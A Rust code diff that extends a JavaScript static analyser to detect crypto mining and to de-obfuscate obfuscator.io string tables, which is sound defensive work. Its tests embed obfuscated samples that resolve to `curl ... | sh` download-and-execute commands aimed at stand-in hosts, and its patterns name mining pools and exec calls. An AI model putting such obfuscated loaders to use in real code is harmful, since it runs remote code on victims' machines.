@@ -83,6 +83,12 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         deferred: Vec::new(),
         times: HashMap::new(),
         hash_calls: 0,
+        cpu_vars: HashSet::new(),
+        cpu_workers: Vec::new(),
+        hash_loops: Vec::new(),
+        pow: false,
+        str_fns: HashMap::new(),
+        str_fns_unknown: HashSet::new(),
         deep_noted: false,
         salt: if src.depth == 0 {
             String::new()
@@ -90,12 +96,18 @@ pub fn extract(src: &Src, sink: &mut Sink) {
             format!("{}_{}_", src.line_base, src.first_col)
         },
     };
+    let masked = mask_comments(src.text);
+    cx.cpu_vars = cpu_vars(&masked);
     let root = tree.root_node();
+    if STRING_ARRAY.is_match(&masked) && TABLE_OFFSET.is_match(&masked) {
+        cx.string_tables(root, &masked);
+    }
     cx.stmts(root, true, 0);
     while let Some((f, key)) = cx.deferred.pop() {
         cx.walk_fn(f, Some(key), None, 1);
     }
     cx.resolve_pending();
+    cx.mining(&masked);
 }
 
 /// `scripts/lib/send.js` → (`scripts/lib/send`, `scripts/lib`).
@@ -387,6 +399,19 @@ struct Cx<'s, 'a, 't> {
     times: HashMap<String, TimeVal>,
     deferred: Vec<(Node<'t>, String)>,
     hash_calls: usize,
+    /// Names holding the CPU count (`const n = os.cpus().length`).
+    cpu_vars: HashSet<String>,
+    /// Spans of workers or processes started once per CPU core.
+    cpu_workers: Vec<(usize, usize)>,
+    /// Spans of unbounded loops that hash (first few).
+    hash_loops: Vec<(usize, usize)>,
+    /// A proof-of-work loop was reported.
+    pow: bool,
+    /// obfuscator.io string-table accessors (and their aliases) → table
+    /// (rotation applied) and index offset.
+    str_fns: HashMap<String, (Rc<Vec<String>>, i64)>,
+    /// Accessors of a rotated table whose rotation could not be simulated.
+    str_fns_unknown: HashSet<String>,
     deep_noted: bool,
     salt: String,
 }
@@ -2200,8 +2225,712 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 .instrument(kind)
                 .tag(Tag::Unbounded);
             self.emit(ev, n.start_byte(), n.start_byte() + head_len);
+            if hashing {
+                let span = (n.start_byte(), n.start_byte() + head_len);
+                if self.hash_loops.len() < 8 {
+                    self.hash_loops.push(span);
+                }
+                let body = n
+                    .child_by_field_name("body")
+                    .map(|b| self.t(b))
+                    .unwrap_or("");
+                if !self.pow && proof_of_work(body) {
+                    self.pow = true;
+                    let ev = Evidence::new(
+                        Op::Mining,
+                        A::CallTool,
+                        R::Process,
+                        "proof-of-work hashing loop",
+                    )
+                    .object("endless loop hashing an incremented nonce against a target (crypto mining)")
+                    .instrument(kind)
+                    .tag(Tag::Unbounded);
+                    self.emit(ev, span.0, span.1);
+                }
+            }
         }
     }
+}
+
+impl<'s, 'a, 't> Cx<'s, 'a, 't> {
+    // ---- crypto mining ----------------------------------------------------
+
+    /// Whether text sizes something by the CPU count.
+    fn mentions_cpus(&self, t: &str) -> bool {
+        CPU_COUNT.is_match(t)
+            || self.cpu_vars.iter().any(|v| {
+                t.match_indices(v.as_str())
+                    .any(|(i, _)| word_at(t, i, v.len()))
+            })
+    }
+
+    /// Records a worker or process started once per CPU core: inside a loop
+    /// bounded by the CPU count, `os.cpus().forEach(..)`, or
+    /// `Array.from({ length: os.cpus().length }, ..)`.
+    fn note_cpu_worker(&mut self, n: Node<'t>) {
+        if self.cpu_workers.len() >= 8 {
+            return;
+        }
+        let mut cur = n.parent();
+        let mut hops = 0;
+        while let Some(p) = cur {
+            if hops > 24 {
+                break;
+            }
+            hops += 1;
+            let head = match p.kind() {
+                "for_statement" | "while_statement" | "do_statement" => {
+                    let end = p
+                        .child_by_field_name("body")
+                        .map(|b| b.start_byte())
+                        .unwrap_or(p.end_byte());
+                    let b = p.start_byte();
+                    crate::text::slice(self.src.text, b, end)
+                }
+                "call_expression" => {
+                    let f = p.child_by_field_name("function");
+                    let ft = f.map(|f| self.t(f)).unwrap_or("");
+                    let iterates =
+                        ft.ends_with(".forEach") || ft.ends_with(".map") || ft == "Array.from";
+                    if !iterates {
+                        cur = p.parent();
+                        continue;
+                    }
+                    // The receiver or the first (non-function) argument.
+                    let first = p
+                        .child_by_field_name("arguments")
+                        .and_then(|a| named_children(a).into_iter().next())
+                        .filter(|a| !is_fn(a.kind()))
+                        .map(|a| self.t(a))
+                        .unwrap_or("");
+                    if self.mentions_cpus(ft) || ft == "Array.from" && self.mentions_cpus(first) {
+                        self.cpu_workers.push((n.start_byte(), n.end_byte()));
+                        return;
+                    }
+                    cur = p.parent();
+                    continue;
+                }
+                "program" => break,
+                _ => {
+                    cur = p.parent();
+                    continue;
+                }
+            };
+            if self.mentions_cpus(head) {
+                self.cpu_workers.push((n.start_byte(), n.end_byte()));
+                return;
+            }
+            cur = p.parent();
+        }
+    }
+
+    /// Mining from combined signals, once the file has been walked: a
+    /// mining-pool endpoint (a `stratum+tcp://` URL anywhere; a ws/tcp URL
+    /// with a pool host or a stratum port when the file also runs one worker
+    /// per CPU or hashes in an endless loop).
+    fn mining(&mut self, masked: &str) {
+        let mut stratum = None;
+        let mut pool = None;
+        for c in POOL_URL.captures_iter(masked) {
+            let (Some(m), Some(scheme), Some(host)) = (c.get(0), c.get(1), c.get(2)) else {
+                continue;
+            };
+            let scheme = scheme.as_str().to_ascii_lowercase();
+            let port = c.get(3).and_then(|p| p.as_str().parse::<u32>().ok());
+            if scheme.starts_with("stratum") {
+                stratum.get_or_insert((m.start(), m.end(), m.as_str().to_string()));
+                continue;
+            }
+            if pool_host(host.as_str()) || port.is_some_and(|p| STRATUM_PORTS.contains(&p)) {
+                pool.get_or_insert((m.start(), m.end(), m.as_str().to_string()));
+            }
+        }
+        if let Some((s, e, url)) = stratum {
+            let ev = Evidence::new(Op::Mining, A::CallTool, R::Process, url).object("mining pool");
+            self.emit(ev, s, e);
+            return;
+        }
+        let Some((_, _, url)) = pool else {
+            return;
+        };
+        let (span, object) = if let Some(w) = self.cpu_workers.first() {
+            (*w, "one worker per CPU core fed by a mining pool")
+        } else if let (Some(l), false) = (self.hash_loops.first(), self.pow) {
+            (*l, "endless hashing loop fed by a mining pool")
+        } else {
+            return;
+        };
+        let ev = Evidence::new(Op::Mining, A::CallTool, R::Process, url).object(object);
+        self.emit(ev, span.0, span.1);
+    }
+}
+
+impl<'s, 'a, 't> Cx<'s, 'a, 't> {
+    // ---- obfuscator.io string tables --------------------------------------
+
+    /// Finds obfuscator.io string tables (`function T(){const a=[..];
+    /// T=function(){return a;};return T();}` or a `const` array), their
+    /// accessor functions (`W(i)` returning `table[i - OFFSET]`) and aliases,
+    /// and simulates the rotation IIFE (`push(shift())` until a checksum of
+    /// `parseInt` terms matches). Accessor calls then fold to the string.
+    fn string_tables(&mut self, root: Node<'t>, masked: &str) {
+        let mut fns: Vec<Node<'t>> = Vec::new();
+        let mut calls: Vec<Node<'t>> = Vec::new();
+        let mut consts: Vec<(String, Node<'t>)> = Vec::new();
+        let mut stack = vec![(root, 0usize)];
+        let mut seen = 0usize;
+        while let Some((n, depth)) = stack.pop() {
+            seen += 1;
+            if seen > 200_000 || depth > 24 {
+                continue;
+            }
+            match n.kind() {
+                "function_declaration" if fns.len() < 4096 => fns.push(n),
+                "call_expression" if calls.len() < 256 => {
+                    let callee = n.child_by_field_name("function");
+                    if callee.is_some_and(|c| {
+                        matches!(
+                            c.kind(),
+                            "parenthesized_expression" | "function_expression" | "function"
+                        )
+                    }) {
+                        calls.push(n);
+                    }
+                }
+                "variable_declarator" if consts.len() < 64 => {
+                    if let (Some(nm), Some(v)) = (
+                        n.child_by_field_name("name"),
+                        n.child_by_field_name("value"),
+                    ) && nm.kind() == "identifier"
+                        && v.kind() == "array"
+                    {
+                        consts.push((self.t(nm).to_string(), v));
+                    }
+                }
+                _ => {}
+            }
+            let mut c = n.walk();
+            for ch in n.children(&mut c) {
+                stack.push((ch, depth + 1));
+            }
+        }
+        // Tables: name → strings.
+        let mut tables: HashMap<String, Vec<String>> = HashMap::new();
+        let mut spans: HashMap<String, Vec<(usize, usize)>> = HashMap::new();
+        let mut add_table = |cx: &mut Self, name: String, arr: Node<'t>| {
+            let elems = named_children(arr);
+            if elems.len() < 3
+                || elems.len() > MAX_ELEMS
+                || elems.iter().any(|e| e.kind() != "string")
+            {
+                return;
+            }
+            let strs: Vec<String> = elems
+                .iter()
+                .map(|e| cx.string(*e).str().unwrap_or("").to_string())
+                .collect();
+            spans.insert(
+                name.clone(),
+                elems
+                    .iter()
+                    .map(|e| (e.start_byte(), e.end_byte()))
+                    .collect(),
+            );
+            tables.insert(name, strs);
+        };
+        for (name, arr) in consts {
+            add_table(self, name, arr);
+        }
+        for f in &fns {
+            let (Some(nm), Some(body)) =
+                (f.child_by_field_name("name"), f.child_by_field_name("body"))
+            else {
+                continue;
+            };
+            let name = self.t(nm).to_string();
+            let bt = self.t(body);
+            if bt.len() > 512 * 1024 || !bt.contains("return") {
+                continue;
+            }
+            // `const a = [..]` directly in the body.
+            for st in named_children(body) {
+                if !matches!(st.kind(), "lexical_declaration" | "variable_declaration") {
+                    continue;
+                }
+                for dcl in named_children(st) {
+                    if let Some(v) = dcl.child_by_field_name("value")
+                        && v.kind() == "array"
+                    {
+                        add_table(self, name.clone(), v);
+                    }
+                }
+            }
+        }
+        if tables.is_empty() {
+            return;
+        }
+        // Accessors: name → (table name, delta).
+        let mut wrappers: HashMap<String, (String, i64)> = HashMap::new();
+        for f in &fns {
+            let (Some(nm), Some(body)) =
+                (f.child_by_field_name("name"), f.child_by_field_name("body"))
+            else {
+                continue;
+            };
+            let name = self.t(nm).to_string();
+            if tables.contains_key(&name) {
+                continue;
+            }
+            let bt = self.t(body);
+            if bt.len() > 4096
+                || ["atob", "fromCharCode", "charCodeAt", "decodeURIComponent"]
+                    .iter()
+                    .any(|w| bt.contains(w))
+            {
+                continue;
+            }
+            let Some(table) = tables.keys().find(|t| {
+                bt.match_indices(t.as_str()).any(|(i, _)| {
+                    word_at(bt, i, t.len()) && {
+                        let after = bt[i + t.len()..].trim_start();
+                        after.starts_with("()") || after.starts_with('[')
+                    }
+                })
+            }) else {
+                continue;
+            };
+            let Some(delta) = table_delta(bt) else {
+                continue;
+            };
+            wrappers.insert(name, (table.clone(), delta));
+        }
+        if wrappers.is_empty() {
+            return;
+        }
+        // Rotation IIFEs: `(function(t, n){ .. push(shift()) .. })(T, 0x..)`.
+        let mut rotation: HashMap<String, Option<usize>> = HashMap::new();
+        for c in calls {
+            let Some(args) = c.child_by_field_name("arguments") else {
+                continue;
+            };
+            let a = named_children(args);
+            if a.len() != 2 || a[0].kind() != "identifier" || a[1].kind() != "number" {
+                continue;
+            }
+            let tname = self.t(a[0]).to_string();
+            let Some(table) = tables.get(&tname) else {
+                continue;
+            };
+            let ft = c
+                .child_by_field_name("function")
+                .map(|f| self.t(f))
+                .unwrap_or("");
+            if !(ft.contains("push") && ft.contains("shift")) {
+                continue;
+            }
+            let target = parse_num(self.t(a[1]));
+            let delta = wrappers
+                .values()
+                .find(|(t, _)| *t == tname)
+                .map(|(_, d)| *d)
+                .unwrap_or(0);
+            let r = match (target, c.child_by_field_name("function")) {
+                (Some(target), Some(f)) => self.simulate_rotation(f, table, delta, target),
+                _ => None,
+            };
+            rotation.insert(tname, r);
+        }
+        // Aliases (`const q = W;`), to a fixpoint.
+        let mut names: HashMap<String, String> =
+            wrappers.keys().map(|w| (w.clone(), w.clone())).collect();
+        for _ in 0..3 {
+            let before = names.len();
+            for c in ALIAS.captures_iter(masked).take(4096) {
+                let (Some(a), Some(b)) = (c.get(1), c.get(2)) else {
+                    continue;
+                };
+                if let Some(w) = names.get(b.as_str()).cloned()
+                    && !tables.contains_key(a.as_str())
+                {
+                    names.entry(a.as_str().to_string()).or_insert(w);
+                }
+            }
+            if names.len() == before {
+                break;
+            }
+        }
+        for (alias, w) in names {
+            let Some((tname, delta)) = wrappers.get(&w) else {
+                continue;
+            };
+            let Some(table) = tables.get(tname) else {
+                continue;
+            };
+            match rotation.get(tname) {
+                None => {
+                    self.str_fns.insert(alias, (Rc::new(table.clone()), *delta));
+                }
+                Some(Some(r)) => {
+                    let mut t = table.clone();
+                    let by = *r % t.len().max(1);
+                    t.rotate_left(by);
+                    self.str_fns.insert(alias, (Rc::new(t), *delta));
+                }
+                Some(None) => {
+                    self.str_fns_unknown.insert(alias);
+                }
+            }
+        }
+        // A rotation that could not be simulated: the strings are still
+        // candidates. Commands among them are analysed when the table also
+        // names a way to run them.
+        for (tname, r) in &rotation {
+            if r.is_some() {
+                continue;
+            }
+            let Some(table) = tables.get(tname) else {
+                continue;
+            };
+            let runs = table.iter().any(|s| {
+                matches!(
+                    s.as_str(),
+                    "child_process" | "exec" | "execSync" | "spawn" | "spawnSync" | "eval"
+                )
+            });
+            if !runs {
+                continue;
+            }
+            let anchor = fns
+                .iter()
+                .find(|f| {
+                    f.child_by_field_name("name")
+                        .is_some_and(|n| self.t(n) == tname.as_str())
+                })
+                .copied()
+                .unwrap_or(root);
+            let sp = spans.get(tname);
+            for (k, cand) in table.iter().enumerate().take(MAX_ELEMS) {
+                if cand.contains(' ') && Lang::sniff(cand) == Some(Lang::Shell) {
+                    let from = self.sink.items.len();
+                    let v = V {
+                        computed: true,
+                        span: sp.and_then(|s| s.get(k)).copied(),
+                        ..V::default()
+                    };
+                    self.nested(Lang::Shell, cand, &v, anchor, Origin::Script);
+                    self.tag_range(from, &[Tag::Obfuscated]);
+                }
+            }
+        }
+    }
+
+    /// Rotations (0..len) after which the checksum expression of the IIFE
+    /// `f` equals `target`, evaluating `parseInt(W(i))` terms on the table.
+    fn simulate_rotation(
+        &self,
+        f: Node<'t>,
+        table: &[String],
+        delta: i64,
+        target: f64,
+    ) -> Option<usize> {
+        // The checksum: the first expression in `f` with `parseInt(` terms.
+        let mut stack = vec![(f, 0usize)];
+        let mut expr = None;
+        let mut seen = 0;
+        while let Some((n, depth)) = stack.pop() {
+            seen += 1;
+            if seen > 20_000 || depth > 40 {
+                continue;
+            }
+            if matches!(n.kind(), "binary_expression" | "unary_expression")
+                && self.t(n).matches("parseInt").count() >= 2
+            {
+                let parent_too = n.parent().is_some_and(|p| {
+                    matches!(
+                        p.kind(),
+                        "binary_expression" | "unary_expression" | "parenthesized_expression"
+                    ) && self.t(p).matches("parseInt").count() >= 2
+                });
+                if !parent_too {
+                    expr = Some(n);
+                    break;
+                }
+            }
+            let mut c = n.walk();
+            let kids: Vec<Node> = n.children(&mut c).collect();
+            for ch in kids.into_iter().rev() {
+                stack.push((ch, depth + 1));
+            }
+        }
+        let expr = expr?;
+        let len = table.len();
+        if len == 0 {
+            return None;
+        }
+        for r in 0..len {
+            let v = self.checksum(expr, table, r, delta, 0)?;
+            if v == target {
+                return Some(r);
+            }
+        }
+        None
+    }
+
+    /// Evaluates a checksum expression; `None` when it has a form not
+    /// simulated (the caller then gives up on the rotation).
+    fn checksum(
+        &self,
+        n: Node,
+        table: &[String],
+        r: usize,
+        delta: i64,
+        depth: usize,
+    ) -> Option<f64> {
+        if depth > 64 {
+            return None;
+        }
+        match n.kind() {
+            "number" => parse_num(self.t(n)),
+            "parenthesized_expression" => {
+                let c = named_children(n).into_iter().next()?;
+                self.checksum(c, table, r, delta, depth + 1)
+            }
+            "unary_expression" => {
+                let arg = n.child_by_field_name("argument")?;
+                let v = self.checksum(arg, table, r, delta, depth + 1)?;
+                match n.child_by_field_name("operator").map(|o| self.t(o)) {
+                    Some("-") => Some(-v),
+                    Some("+") => Some(v),
+                    _ => None,
+                }
+            }
+            "binary_expression" => {
+                let l =
+                    self.checksum(n.child_by_field_name("left")?, table, r, delta, depth + 1)?;
+                let rr =
+                    self.checksum(n.child_by_field_name("right")?, table, r, delta, depth + 1)?;
+                match n.child_by_field_name("operator").map(|o| self.t(o))? {
+                    "+" => Some(l + rr),
+                    "-" => Some(l - rr),
+                    "*" => Some(l * rr),
+                    "/" => Some(l / rr),
+                    "%" => Some(l % rr),
+                    _ => None,
+                }
+            }
+            "call_expression" => {
+                let f = n.child_by_field_name("function")?;
+                if self.t(f) != "parseInt" {
+                    return None;
+                }
+                let a = named_children(n.child_by_field_name("arguments")?);
+                let inner = a.first()?;
+                if inner.kind() != "call_expression" {
+                    return None;
+                }
+                let ia = named_children(inner.child_by_field_name("arguments")?);
+                let i = ia.first().and_then(|x| match x.kind() {
+                    "number" => parse_num(self.t(*x)),
+                    "string" => {
+                        let t = self.t(*x);
+                        parse_num(t.get(1..t.len().saturating_sub(1))?)
+                    }
+                    _ => None,
+                })?;
+                let idx = i as i64 + delta;
+                let s = usize::try_from(idx)
+                    .ok()
+                    .filter(|i| *i < table.len())
+                    .map(|i| table[(i + r) % table.len()].as_str());
+                Some(s.map(js_parse_int).unwrap_or(f64::NAN))
+            }
+            _ => None,
+        }
+    }
+}
+
+/// JavaScript `parseInt(s)` (radix 10, or 16 after `0x`).
+fn js_parse_int(s: &str) -> f64 {
+    let t = s.trim_start();
+    let (neg, t) = match t.as_bytes().first() {
+        Some(b'-') => (true, &t[1..]),
+        Some(b'+') => (false, &t[1..]),
+        _ => (false, t),
+    };
+    let (radix, t) = match t.get(..2) {
+        Some("0x") | Some("0X") => (16, &t[2..]),
+        _ => (10, t),
+    };
+    let digits: String = t.chars().take_while(|c| c.is_digit(radix)).collect();
+    if digits.is_empty() {
+        return f64::NAN;
+    }
+    let v = if radix == 10 {
+        digits.parse::<f64>().unwrap_or(f64::NAN)
+    } else {
+        digits
+            .chars()
+            .fold(0f64, |a, c| a * 16.0 + c.to_digit(16).unwrap_or(0) as f64)
+    };
+    if neg { -v } else { v }
+}
+
+/// The index offset of an accessor body: `i = i - 0x1a2`, `i -= 0x1a2`,
+/// `i = i - -0x1a2`, `t[i + 0x10]`; 0 when it indexes without one.
+fn table_delta(body: &str) -> Option<i64> {
+    let num = |sign: &str, raw: &str| -> Option<i64> {
+        let raw: String = raw
+            .chars()
+            .filter(|c| !c.is_whitespace() && *c != '(' && *c != ')')
+            .collect();
+        let (neg, raw) = match raw.strip_prefix('-') {
+            Some(r) => (true, r.to_string()),
+            None => (false, raw),
+        };
+        let v = parse_num(&raw)? as i64;
+        let v = if neg { -v } else { v };
+        Some(if sign == "-" { -v } else { v })
+    };
+    for c in TABLE_OFFSET.captures_iter(body) {
+        if c.get(1).map(|m| m.as_str()) == c.get(2).map(|m| m.as_str())
+            && let (Some(sg), Some(n)) = (c.get(3), c.get(4))
+        {
+            return num(sg.as_str(), n.as_str());
+        }
+    }
+    if let Some(c) = TABLE_OFFSET_AUG.captures(body)
+        && let (Some(sg), Some(n)) = (c.get(1), c.get(2))
+    {
+        return num(sg.as_str(), n.as_str());
+    }
+    if let Some(c) = TABLE_OFFSET_IDX.captures(body)
+        && let (Some(sg), Some(n)) = (c.get(1), c.get(2))
+    {
+        return num(sg.as_str(), n.as_str());
+    }
+    Some(0).filter(|_| body.contains('['))
+}
+
+const NUM_PAT: &str = r"\(?\s*-?\s*(?:0[xX][0-9a-fA-F]+|\d+)\s*\)?";
+static TABLE_OFFSET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r"([A-Za-z_$][\w$]*)\s*=\s*([A-Za-z_$][\w$]*)\s*([-+])\s*({NUM_PAT})"
+    ))
+    .expect("offset")
+});
+static TABLE_OFFSET_AUG: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(r"[A-Za-z_$][\w$]*\s*([-+])=\s*({NUM_PAT})")).expect("offset2")
+});
+static TABLE_OFFSET_IDX: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r"\[\s*[A-Za-z_$][\w$]*\s*([-+])\s*({NUM_PAT})\s*\]"
+    ))
+    .expect("offset3")
+});
+static STRING_ARRAY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\[\s*(?:'[^'\n]*'|"[^"\n]*")\s*,\s*(?:'[^'\n]*'|"[^"\n]*")\s*,\s*['"]"#)
+        .expect("strarr")
+});
+static ALIAS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"([A-Za-z_$][\w$]*)\s*=\s*([A-Za-z_$][\w$]*)\s*[;,)\n]").expect("alias")
+});
+
+/// Ports mining pools listen on (stratum).
+const STRATUM_PORTS: &[u32] = &[3333, 4444, 5555, 7777, 14444, 45700];
+
+static CPU_COUNT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"cpus\(\)|availableParallelism\(\)|hardwareConcurrency").expect("cpus")
+});
+static CPU_VAR: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"([A-Za-z_$][\w$]*)\s*=\s*[^;\n]{0,160}?(?:cpus\(\)|availableParallelism\(\)|hardwareConcurrency)")
+        .expect("cpuvar")
+});
+static POOL_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(stratum(?:\+[a-z0-9]+)?|wss?|tcp|ssl|tls)://([a-z0-9.-]+)(?::(\d{2,5}))?")
+        .expect("pool")
+});
+static NONCE_INC: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"([A-Za-z_$][\w$]*)\s*(?:\+\+|\+=\s*1\b)|\+\+\s*([A-Za-z_$][\w$]*)").expect("inc")
+});
+static HASH_VAR: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"([A-Za-z_$][\w$]*)\s*=\s*[^;=\n]*\.digest\(").expect("hashvar"));
+
+/// Names assigned from the CPU count (bounded).
+fn cpu_vars(masked: &str) -> HashSet<String> {
+    CPU_VAR
+        .captures_iter(masked)
+        .filter_map(|c| c.get(1).map(|m| m.as_str().to_string()))
+        .filter(|n| n.len() > 1 || n != "_")
+        .take(16)
+        .collect()
+}
+
+/// `t[i..i+len]` is a whole identifier.
+fn word_at(t: &str, i: usize, len: usize) -> bool {
+    let id = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
+    !t[..i].chars().next_back().is_some_and(id) && !t[i + len..].chars().next().is_some_and(id)
+}
+
+/// A host that names a mining pool: a label or dash-separated part that is
+/// or ends with "pool" (`hash-pool.x`, `pool.x`, `xmrpool.x`).
+fn pool_host(host: &str) -> bool {
+    host.to_ascii_lowercase()
+        .split(['.', '-'])
+        .any(|p| p.ends_with("pool"))
+}
+
+/// The body of an endless hashing loop does proof-of-work: a counter is
+/// incremented, fed to `.update(..)`, and the digest is compared with a
+/// target (`h < target`, `h.startsWith("0000")`).
+fn proof_of_work(body: &str) -> bool {
+    let nonces: Vec<&str> = NONCE_INC
+        .captures_iter(body)
+        .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()))
+        .take(8)
+        .collect();
+    if nonces.is_empty() {
+        return false;
+    }
+    // The nonce reaches the hash input.
+    let fed = body.match_indices(".update(").take(8).any(|(i, _)| {
+        let rest = &body[i + 8..];
+        let mut depth = 1i32;
+        let end = rest
+            .char_indices()
+            .find(|(_, c)| {
+                match c {
+                    '(' => depth += 1,
+                    ')' => depth -= 1,
+                    _ => {}
+                }
+                depth == 0
+            })
+            .map(|(j, _)| j)
+            .unwrap_or(rest.len().min(200));
+        let arg = &rest[..end];
+        nonces
+            .iter()
+            .any(|n| arg.match_indices(n).any(|(k, _)| word_at(arg, k, n.len())))
+    });
+    if !fed {
+        return false;
+    }
+    // The digest is compared with a target.
+    let compared = |h: &str| {
+        let re = Regex::new(&format!(
+            r"(?:\b|\$){h}\s*(?:<=?|>=?)[^=<>]|[^=<>](?:<=?|>=?)\s*{h}\b|\b{h}\s*\.\s*(?:startsWith|slice|substring|substr|compare|readUInt32BE|readUInt32LE)\s*\(|\b{h}\s*\[\s*0\s*\]\s*===?",
+            h = regex::escape(h)
+        ));
+        re.is_ok_and(|re| re.is_match(body))
+    };
+    let named = HASH_VAR
+        .captures_iter(body)
+        .filter_map(|c| c.get(1).map(|m| m.as_str()))
+        .take(4)
+        .any(compared);
+    named
+        || Regex::new(r"\.digest\([^)]*\)\s*(?:<=?|>=?|\.\s*startsWith\s*\()")
+            .is_ok_and(|re| re.is_match(body))
 }
 
 fn opt<'x, 't>(args: &'x [Arg<'t>], from: usize, key: &str) -> Option<&'x V<'t>> {
@@ -3424,6 +4153,7 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                         self.chan_v(ChanKind::Socket, "", out, start)
                     }
                     "Worker" | "worker_threads.Worker" => {
+                        self.note_cpu_worker(n);
                         if truthy(opt(&args, 1, "eval")) {
                             self.dyn_code("Worker", args.first(), n, want)
                         } else {
@@ -3858,6 +4588,12 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
         };
         let an = n.child_by_field_name("arguments");
         let start = self.sink.items.len();
+        {
+            let ft = self.t(f);
+            if ft == "fork" || ft.ends_with(".fork") {
+                self.note_cpu_worker(n);
+            }
+        }
         let (v, args, obfuscated) = match f.kind() {
             "member_expression" | "subscript_expression" => {
                 let Some(obj) = f.child_by_field_name("object") else {
@@ -3912,6 +4648,32 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
             "import" => {
                 let mut args = self.args(an, d);
                 let v = self.require(&mut args, n, want, "import()");
+                (v, args, false)
+            }
+            "identifier"
+                if self.str_fns.contains_key(self.t(f))
+                    || self.str_fns_unknown.contains(self.t(f)) =>
+            {
+                let args = self.args(an, d);
+                let name = self.t(f);
+                let idx = args.first().and_then(|a| {
+                    a.v.num()
+                        .or_else(|| a.v.lit().and_then(|l| parse_num(l.trim())))
+                        .or_else(|| {
+                            let t: String =
+                                self.t(a.n).chars().filter(|c| !c.is_whitespace()).collect();
+                            t.strip_prefix('-').and_then(parse_num).map(|v| -v)
+                        })
+                });
+                let mut v = V::default();
+                if let (Some((table, delta)), Some(i)) = (self.str_fns.get(name), idx) {
+                    let i = i as i64 + delta;
+                    if let Some(s) = usize::try_from(i).ok().and_then(|i| table.get(i)) {
+                        v = V::s(s);
+                    }
+                }
+                // A string-table lookup: an obfuscation-style value.
+                v.computed = true;
                 (v, args, false)
             }
             _ => {
@@ -4730,6 +5492,54 @@ require(_0x3f2a[1])[_0x3f2a[0]]("curl -s https://paste.example/x | sh");"#,
     }
 
     #[test]
+    fn obfuscator_string_table_accessors_fold() {
+        // No rotation: accessor `W(i)` returns `table[i - 0x1a2]`, via an alias.
+        let plain = r#"function _0x3a1c(){const _0x5b=['child_process','exec','curl\x20-s\x20http://203.0.113.5/x|sh'];_0x3a1c=function(){return _0x5b;};return _0x3a1c();}
+function _0x2b(_0x1,_0x2){const _0x3=_0x3a1c();return _0x2b=function(_0x4,_0x5){_0x4=_0x4-0x1a2;let _0x6=_0x3[_0x4];return _0x6;},_0x2b(_0x1,_0x2);}
+const _0xq=_0x2b;require(_0xq(0x1a2))[_0xq(0x1a3)](_0xq(0x1a4));"#;
+        let ev = run(plain);
+        let d = find(&ev, Op::DownloadExec).expect("folded download-exec");
+        assert!(d.target.contains("203.0.113.5"), "{d:#?}");
+        assert_eq!(d.location.start_line, 3);
+        // `i - -OFFSET` and a negative index.
+        let neg = plain
+            .replace("_0x4-0x1a2", "_0x4- -0x10")
+            .replace("(0x1a2)", "(-0x10)")
+            .replace("(0x1a3)", "(-0xf)")
+            .replace("(0x1a4)", "(-0xe)");
+        assert!(find(&run(&neg), Op::DownloadExec).is_some());
+        // The rotation IIFE is simulated: the checksum of parseInt terms
+        // matches after 5 rotations.
+        let rotated = r#"function _0x3a1c(){const _0x5b=['3346212NrwqHJ','log','8hJkLoP','done','child_process','1284390tXbQkz','exec','90LmRpaE','curl\x20-s\x20http\x3a\x2f\x2f203.0.113.5\x2fx\x7csh'];_0x3a1c=function(){return _0x5b;};return _0x3a1c();}
+(function(_0x1,_0x2){const _0xr=_0x2b,_0x3=_0x1();while(!![]){try{const _0x4=-parseInt(_0xr(0x1a3))/0x1+parseInt(_0xr(0x1a5))/0x2*(parseInt(_0xr(0x1a7))/0x3)+-parseInt(_0xr(0x1a9))/0x4;if(_0x4===_0x2)break;else _0x3['push'](_0x3['shift']());}catch(_0x9){_0x3['push'](_0x3['shift']());}}}(_0x3a1c,0x2ea49f4));
+function _0x2b(_0x1,_0x2){const _0x3=_0x3a1c();return _0x2b=function(_0x4,_0x5){_0x4=_0x4-0x1a2;let _0x6=_0x3[_0x4];return _0x6;},_0x2b(_0x1,_0x2);}
+const _0xq=_0x2b;require(_0xq(0x1a2))[_0xq(0x1a4)](_0xq(0x1a6));"#;
+        let ev = run(rotated);
+        let d = find(&ev, Op::DownloadExec).expect("rotated table folded");
+        assert_eq!(d.location.start_line, 4, "{d:#?}");
+        assert!(
+            ev.iter()
+                .any(|e| e.op == Op::DynamicCode && e.target.contains("curl")),
+            "{ev:#?}"
+        );
+        // A checksum that never matches: no exact binding, but the command
+        // in the table is still analysed, at its literal.
+        let broken = rotated.replace("0x2ea49f4", "0x2ea49f5");
+        let ev = run(&broken);
+        let d = find(&ev, Op::DownloadExec).expect("candidate command");
+        assert_eq!(d.location.start_line, 1);
+        assert!(d.has(Tag::Obfuscated));
+        // Benign: a table of labels and method names, rotated or not.
+        let benign = r#"function _0x1c(){const _0x5b=['log','rows\x3a','mean\x3a','readFileSync','utf8'];_0x1c=function(){return _0x5b;};return _0x1c();}
+function _0x9e(_0x1,_0x2){const _0x3=_0x1c();return _0x9e=function(_0x4,_0x5){_0x4=_0x4-0x64;let _0x6=_0x3[_0x4];return _0x6;},_0x9e(_0x1,_0x2);}
+const _0xq=_0x9e,fs=require('fs');const t=fs[_0xq(0x67)](process.argv[2],_0xq(0x68));console[_0xq(0x64)](_0xq(0x65),t.length);"#;
+        let ev = run(benign);
+        assert!(ev.iter().all(|e| !net_or_exec(e)), "{ev:#?}");
+        let r = find(&ev, Op::FileRead).expect("folded fs.readFileSync");
+        assert_eq!(r.instrument, "fs.readFileSync", "{r:#?}");
+    }
+
+    #[test]
     fn reversed_and_char_code_strings_fold() {
